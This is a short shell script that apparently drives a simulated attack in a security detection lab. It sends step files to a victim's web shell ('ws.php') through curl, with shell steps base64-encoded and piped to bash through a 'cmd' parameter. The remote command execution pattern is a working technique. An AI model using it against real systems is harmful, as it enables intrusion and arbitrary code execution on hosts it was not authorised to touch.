# Runs in the attacker. Waits until the client says that the victim is ready, then sends one request a
# step to the victim's web shell. What the victim reports goes through curl into this pod's log.
# The key of the web shell and the line "http <status>" come from $CURL_HOME/.curlrc.
say() { printf 'defender-sim/1 %s\n' "$*"; }
@SETUP@
until [ -s /simulation/go/run ]; do sleep 0.1; done
for file in /simulation/steps/*; do
  step=${file##*/[0-9][0-9][0-9]-}
  case $file in
    *.sh) step=${step%.sh} query="cmd=echo $(base64 -w0 "$file")| base64 -d| bash" ;;
    *.visit) step=${step%.visit} query=visit=$step ;;
    *) query=cmd=$(<"$file") ;;
  esac
  say begin "$step"
  for _ in 1 2 3 4 5; do
    curl -Gs --data-urlencode "$query" http://mdc-simulation-victim/ws.php
    status=$?
    # Only where no connection was made: a request that may have run is never sent twice.
    [ $status = 6 ] || [ $status = 7 ] || break
    sleep 1
  done
  say end "$step" "$status"
done
say done
